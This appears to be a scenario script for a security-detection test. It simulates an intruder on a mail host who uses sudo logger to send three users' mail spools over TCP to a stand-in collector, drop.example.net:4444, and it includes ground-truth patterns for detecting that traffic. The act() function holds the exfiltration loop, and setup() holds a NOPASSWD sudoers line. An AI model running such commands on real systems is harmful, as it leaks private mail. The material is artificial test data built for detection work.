title="logger sends three spools to a foreign collector, line by line"
what="Mail in /var/mail. Somebody with the key of ops, from 203.0.113.77, looks about and then lets util-linux' logger read the spools of buyer, clerk and dev by sudo and send them as syslog over TCP to drop.example.net:4444. Nothing is copied or packed. Commands and connections recorded, raw."
host=mx1.example.org user=ops store=mbox daemons="cron sshd" audit_rules=audit-net.rules audit_format=RAW
setup() { echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; }
stranger() { outside ssh -T -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.77 -i /root/key "ops@$host_ip" "$1" </dev/null; }
act() {
  local u; for u in buyer clerk dev; do letters $u 6; done
  small_talk 4
  ssh_as ops <<'L'
sudo tail -3 /var/log/mail.log
logger -t ops "disk of mx1 checked"
df -h /var/mail
L
  small_talk 2
  stranger 'id; w; ls -l /var/mail'
  stranger 'for u in buyer clerk dev; do sudo logger --tcp --server drop.example.net --port 4444 --rfc3164 --size 60000 --tag $u --file /var/mail/$u; sleep 1; done'
  small_talk 2
}
truth() {
  exec_step read 'logger --tcp --server drop.example.net --port 4444 .*--file /var/mail/buyer' 'logger is given a spool'
  net_step out 'logger 203.0.113.66:4444' 'and sends it to a foreign collector'
  exec_step more 'logger --tcp --server drop.example.net --port 4444 .*--file /var/mail/dev' 'the third box'
}
